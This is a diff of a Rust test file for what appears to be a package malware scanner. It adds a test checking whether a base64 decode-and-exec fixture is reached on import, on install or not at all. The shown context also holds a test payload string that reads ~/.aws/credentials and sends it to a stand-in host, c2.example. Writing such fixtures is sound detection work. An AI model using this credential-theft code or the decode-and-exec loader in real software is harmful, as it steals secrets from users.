@@ -97,6 +97,47 @@ fn a_threat_in_a_test_file_is_unreached_and_still_reported() {
     assert_eq!(f.reachability(), Reachability::Unreached);
 }
 
+#[test]
+fn python_outside_every_package_of_an_sdist_is_unreached_unless_something_runs_it() {
+    let decoded_exec = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n".as_slice();
+    let r = analyse(
+        &[
+            (
+                "setup.py",
+                b"from setuptools import setup\nsetup(name='sample', version='1.0.0')\n",
+            ),
+            ("sample/__init__.py", b"X = 1\n"),
+            ("scripts/internal/bootstrap.py", decoded_exec),
+        ],
+        Ecosystem::Pypi,
+    );
+    let f = finding(&r, "threat.exec-decoded").unwrap_or_else(|| panic!("{:?}", ids(&r)));
+    assert_eq!(f.reachability(), Reachability::Unreached);
+
+    // The same file in the package, or a top-level module, runs on import;
+    // one that setup.py imports runs at install.
+    for (files, reach) in [
+        (vec![("sample/boot.py", decoded_exec)], Reachability::Import),
+        (vec![("boot.py", decoded_exec)], Reachability::Import),
+        (
+            vec![
+                ("scripts/boot.py", decoded_exec),
+                ("setup.py", b"import scripts.boot\n".as_slice()),
+            ],
+            Reachability::Install,
+        ),
+    ] {
+        let mut all = vec![("sample/__init__.py", b"X = 1\n".as_slice())];
+        all.extend(files.iter().copied());
+        if !files.iter().any(|(p, _)| *p == "setup.py") {
+            all.push(("setup.py", b"from setuptools import setup\nsetup()\n".as_slice()));
+        }
+        let r = analyse(&all, Ecosystem::Pypi);
+        let f = finding(&r, "threat.exec-decoded").unwrap_or_else(|| panic!("{:?}", ids(&r)));
+        assert_eq!(f.reachability(), reach, "{files:?}");
+    }
+}
+
 /// base64 → zlib → Python that reads a credential file and sends it.
 fn three_layer_payload() -> String {
     let code = "import os, urllib.request\nd = open(os.path.expanduser('~/.aws/credentials')).read()\nurllib.request.urlopen('https://c2.example/u', data=d.encode())\n";
